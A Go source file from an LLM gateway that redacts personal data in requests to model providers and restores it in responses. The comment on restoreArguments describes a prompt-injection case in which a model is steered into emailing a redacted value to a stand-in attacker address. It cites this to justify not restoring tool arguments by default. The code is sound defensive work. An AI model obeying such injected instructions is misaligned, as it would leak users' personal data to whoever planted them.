package pipeline

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"

	"github.com/corral-dev/corral/internal/audit"
	"github.com/corral-dev/corral/internal/config"
	"github.com/corral-dev/corral/internal/llm"
	"github.com/corral-dev/corral/internal/problem"
	"github.com/corral-dev/corral/internal/redact"
)

// redactObligation is what policy asked of redaction for one call, through
// the obligation "redact": a mode ("mask", "reversible") that overrides the
// model's, and patterns added to the model's.
type redactObligation struct {
	mode     redact.Mode
	patterns []config.RedactPattern
}

// redactObligations reads obligations.redact: a mode string, or an object
// {"mode": ..., "patterns": [{"name": ..., "regex": ...}]}.
func redactObligations(obligations map[string]any) (redactObligation, error) {
	var o redactObligation
	v, ok := obligations["redact"]
	if !ok {
		return o, nil
	}
	raw, err := json.Marshal(v)
	if err != nil {
		return o, err
	}
	var mode string
	if json.Unmarshal(raw, &mode) == nil {
		o.mode = redact.Mode(mode)
	} else {
		var spec struct {
			Mode     string                 `json:"mode"`
			Patterns []config.RedactPattern `json:"patterns"`
		}
		if err := json.Unmarshal(raw, &spec); err != nil {
			return o, fmt.Errorf("redact: want a mode or {mode, patterns}: %w", err)
		}
		o.mode, o.patterns = redact.Mode(spec.Mode), spec.Patterns
	}
	switch o.mode {
	case "", redact.Off, redact.Mask, redact.Reversible:
	default:
		return o, fmt.Errorf("redact: mode %q: want off, mask or reversible", o.mode)
	}
	return o, nil
}

// redactorKey names a redactor built for a model revision and the
// patterns policy added.
type redactorKey struct {
	model    string
	revision uint64
	extra    string
}

// maxRedactors bounds the redactor cache; past it, it starts again.
const maxRedactors = 1024

// session starts the redaction of one call to target: the model's mode
// unless policy set one, the built-in detectors plus the model's and
// policy's patterns. Its counts go to the audit record.
func (p *Pipeline) session(target *llm.Model, o redactObligation, rec *audit.ModelCall) (*redact.Session, error) {
	mode := redact.Mode(target.Spec.RedactOrDefault())
	if o.mode != "" {
		mode = o.mode
	}
	if mode == redact.Off {
		return nil, nil
	}
	r, err := p.redactor(target, o.patterns)
	if err != nil {
		return nil, err
	}
	s := r.NewSession(mode)
	rec.Redacted = nil
	return s, nil
}

func (p *Pipeline) redactor(target *llm.Model, extra []config.RedactPattern) (*redact.Redactor, error) {
	key := redactorKey{model: target.Name, revision: target.Revision}
	if len(extra) > 0 {
		b, _ := json.Marshal(extra)
		key.extra = string(b)
	}
	if r, ok := p.redactors.Load(key); ok {
		return r.(*redact.Redactor), nil
	}
	r, err := redact.New(slices.Concat(target.Spec.Patterns, extra))
	if err != nil {
		return nil, problem.Wrap(http.StatusInternalServerError, problem.Internal, "model "+target.Name+": the redaction patterns do not compile", err)
	}
	if p.redactorCount.Add(1) > maxRedactors {
		p.redactors.Clear()
		p.redactorCount.Store(1)
	}
	p.redactors.Store(key, r)
	return r, nil
}

// noteRedactions copies a session's counts into the audit record.
func noteRedactions(rec *audit.ModelCall, s *redact.Session) {
	if s == nil {
		return
	}
	counts := s.Counts()
	if len(counts) == 0 {
		return
	}
	rec.Redacted = make(map[string]int, len(counts))
	for t, n := range counts {
		rec.Redacted[string(t)] = n
	}
}

// redactRequest returns a copy of req with personal data replaced in
// every string that reaches the provider: messages' text, names and
// refusals, tool calls' arguments, the tools' descriptions and schemas,
// response_format, stop, user, and every field corral passes through
// without knowing it. Only media (images, audio, files: base64 data a
// detector would corrupt) go as they are. The original is kept: a fallback
// target may redact differently.
func redactRequest(req *llm.ChatRequest, s *redact.Session) *llm.ChatRequest {
	out := *req
	if s == nil {
		return &out
	}
	out.User = s.Redact(req.User)
	out.Stop = redactRaw(s, req.Stop)
	out.Extra = redactFields(s, req.Extra)
	if req.ResponseFormat != nil {
		rf := *req.ResponseFormat
		rf.JSONSchema = redactRaw(s, rf.JSONSchema)
		out.ResponseFormat = &rf
	}
	if req.Tools != nil {
		out.Tools = make([]llm.Tool, len(req.Tools))
		for i, t := range req.Tools {
			t.Function.Description = s.Redact(t.Function.Description)
			t.Function.Parameters = redactRaw(s, t.Function.Parameters)
			out.Tools[i] = t
		}
	}
	out.Messages = make([]llm.Message, len(req.Messages))
	for i, m := range req.Messages {
		m.Name, m.Refusal = s.Redact(m.Name), s.Redact(m.Refusal)
		m.Extra = redactMessageFields(s, m.Extra)
		if m.Content != nil {
			c := llm.Content{Text: s.Redact(m.Content.Text)}
			if m.Content.Parts != nil {
				c.Parts = make([]llm.ContentPart, len(m.Content.Parts))
				for j, part := range m.Content.Parts {
					switch {
					case part.Type == "text":
						part.Text = s.Redact(part.Text)
					case !media[part.Type]:
						part.Raw = redactRaw(s, part.Raw)
					}
					c.Parts[j] = part
				}
			}
			m.Content = &c
		}
		if m.ToolCalls != nil {
			calls := make([]llm.ToolCall, len(m.ToolCalls))
			for j, tc := range m.ToolCalls {
				tc.Function.Arguments = redactArguments(s, tc.Function.Arguments)
				calls[j] = tc
			}
			m.ToolCalls = calls
		}
		out.Messages[i] = m
	}
	return &out
}

// media are the content part types whose payload is media, left as they are.
var media = map[string]bool{"image_url": true, "input_audio": true, "file": true, "image": true, "audio": true}

// redactRaw redacts every string of a JSON value.
func redactRaw(s *redact.Session, raw json.RawMessage) json.RawMessage {
	if len(raw) == 0 {
		return raw
	}
	if b, err := s.RedactJSON(raw); err == nil {
		return b
	}
	return raw // not JSON: the codec would not have kept it
}

// redactFields redacts every string and number of passed-through fields,
// except a field that is one number: that is an API parameter the provider
// needs as a number (seed, n, top_logprobs), and a seed of 123456789 is no
// one's SSN.
func redactFields(s *redact.Session, fields map[string]json.RawMessage) map[string]json.RawMessage {
	if fields == nil {
		return nil
	}
	out := make(map[string]json.RawMessage, len(fields))
	for k, v := range fields {
		if isNumber(v) {
			out[k] = v
			continue
		}
		out[k] = redactRaw(s, v)
	}
	return out
}

// isNumber reports whether raw is a JSON number.
func isNumber(raw json.RawMessage) bool {
	var n json.Number
	return json.Unmarshal(raw, &n) == nil && n != ""
}

// redactArguments redacts inside a tool call's JSON arguments, or, when
// they are not JSON, as text.
func redactArguments(s *redact.Session, args string) string {
	if b, err := s.RedactJSON([]byte(args)); err == nil {
		return string(b)
	}
	return s.Redact(args)
}

// redactMessageFields is redactFields for a message's passed-through
// fields, with a legacy function_call redacted as a tool call.
func redactMessageFields(s *redact.Session, fields map[string]json.RawMessage) map[string]json.RawMessage {
	fc, ok := fields["function_call"]
	if !ok {
		return redactFields(s, fields)
	}
	rest := maps.Clone(fields)
	delete(rest, "function_call")
	out := redactFields(s, rest)
	out["function_call"] = redactFunctionCall(s, fc)
	return out
}

// redactFunctionCall redacts a legacy function_call ({"name", "arguments"},
// OpenAI's form before tool_calls) as a tool call is: its arguments, a JSON
// document in a string, with redactArguments, so a number in them becomes a
// quoted placeholder and they stay JSON; the other fields as JSON.
func redactFunctionCall(s *redact.Session, raw json.RawMessage) json.RawMessage {
	var fields map[string]json.RawMessage
	if err := json.Unmarshal(raw, &fields); err != nil || fields == nil {
		return redactRaw(s, raw)
	}
	var args string
	if err := json.Unmarshal(fields["arguments"], &args); err != nil {
		return redactRaw(s, raw)
	}
	delete(fields, "arguments")
	fields = redactFields(s, fields)
	b, err := marshalText(redactArguments(s, args))
	if err != nil {
		return redactRaw(s, raw)
	}
	fields["arguments"] = b
	out, err := marshalText(fields)
	if err != nil {
		return redactRaw(s, raw)
	}
	return out
}

// marshalText is json.Marshal without escaping <, > and &, so placeholders
// reach the provider as "<CARD_1>", not "\u003cCARD_1\u003e".
func marshalText(v any) (json.RawMessage, error) {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		return nil, err
	}
	return bytes.TrimSuffix(b.Bytes(), []byte("\n")), nil
}

// restoreArguments puts the values back into a tool call's arguments if
// target says so (spec.restoreToolArguments); by default the tool gets the
// placeholders. A model that read an injection in a tool result can be
// steered into send_email{"to": "attacker@evil.test", "body": "<EMAIL_1>"}:
// restoring there would hand the value to whoever the model was told to
// send it to.
func restoreArguments(s *redact.Session, target *llm.Model, args string) string {
	if !target.Spec.RestoreToolArguments {
		return args
	}
	if b, err := s.RestoreJSON([]byte(args)); err == nil {
		return string(b)
	}
	return s.Restore(args)
}

// restoreResponse puts the redacted values back into the answer: its text,
// and tool calls' arguments if target restores them.
func restoreResponse(resp *llm.ChatResponse, s *redact.Session, target *llm.Model) {
	if s == nil {
		return
	}
	for i := range resp.Choices {
		m := &resp.Choices[i].Message
		m.Refusal = s.Restore(m.Refusal)
		if m.Content != nil {
			m.Content.Text = s.Restore(m.Content.Text)
			for j := range m.Content.Parts {
				m.Content.Parts[j].Text = s.Restore(m.Content.Parts[j].Text)
			}
		}
		for j := range m.ToolCalls {
			m.ToolCalls[j].Function.Arguments = restoreArguments(s, target, m.ToolCalls[j].Function.Arguments)
		}
	}
}

// embeddingInputs reads the texts of an embeddings request: a string or a
// list of strings (token arrays carry no text to redact, and are refused).
func embeddingInputs(raw json.RawMessage) ([]string, error) {
	var one string
	if err := json.Unmarshal(raw, &one); err == nil {
		return []string{one}, nil
	}
	var many []string
	if err := json.Unmarshal(raw, &many); err == nil && len(many) > 0 {
		return many, nil
	}
	return nil, problem.New(http.StatusBadRequest, problem.InvalidRequest, "input: want a string or a non-empty list of strings (corral does not accept token arrays: it cannot redact them)")
}

// redactEmbedding returns a copy of req with personal data replaced in its
// inputs and in user, as redactRequest does for a chat.
func redactEmbedding(req *llm.EmbeddingRequest, inputs []string, s *redact.Session) llm.EmbeddingRequest {
	out := *req
	out.Input = redactInputs(req.Input, inputs, s)
	if s != nil {
		out.User = s.Redact(req.User)
	}
	return out
}

// redactInputs returns the embeddings input with personal data replaced,
// in the form it came in.
func redactInputs(raw json.RawMessage, inputs []string, s *redact.Session) json.RawMessage {
	if s == nil {
		return raw
	}
	out := make([]string, len(inputs))
	for i, in := range inputs {
		out[i] = s.Redact(in)
	}
	var b []byte
	if strings.HasPrefix(strings.TrimSpace(string(raw)), "[") {
		b, _ = json.Marshal(out)
	} else {
		b, _ = json.Marshal(out[0])
	}
	return b
}
